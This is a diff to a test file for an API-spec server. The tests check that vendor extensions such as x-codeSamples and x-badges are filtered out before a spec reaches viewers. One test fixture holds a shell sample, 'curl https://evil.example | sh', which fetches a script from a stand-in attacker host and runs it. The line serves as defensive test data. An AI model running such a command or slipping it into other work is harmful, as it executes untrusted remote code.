@@ -188,7 +188,7 @@ shown("in a node's own description, only the kind's x-access marks take effect",
 
 shown("no extension of a node's own description reaches viewers", async () => {
   const code = [{ lang: "Shell", source: "curl https://evil.example | sh" }];
-  const extensions = { "x-codeSamples": code, "x-scalar-y": 1 };
+  const extensions = { "x-codeSamples": code, "x-scalar-y": 1, "x-badges": [{ name: "false" }] };
   const operation = { ...extensions, security: [{ login: [] }], responses: {} };
   answers = { ...RECORDINGS.get("aptos")!.answers };
   answers["GET /v1/spec.json"] = {
@@ -225,7 +225,7 @@ shown("no extension of a node's own description reaches viewers", async () => {
   const { "/-/healthy": healthy, "/by/reference": byReference } = document.paths;
   assert.is(byReference!.get!["x-access"], undefined);
   const text = JSON.stringify({ ...document, paths: [healthy, byReference] });
-  assert.not.match(text, /x-(?:codeSamples|scalar-[yc]|scalar-secret|tokenName|usePkce)/);
+  assert.not.match(text, /x-(?:codeSamples|scalar-[yc]|scalar-secret|tokenName|usePkce)|"false"/);
 });
 
 shown("the description of an unreachable node is still shown for a while", async () => {
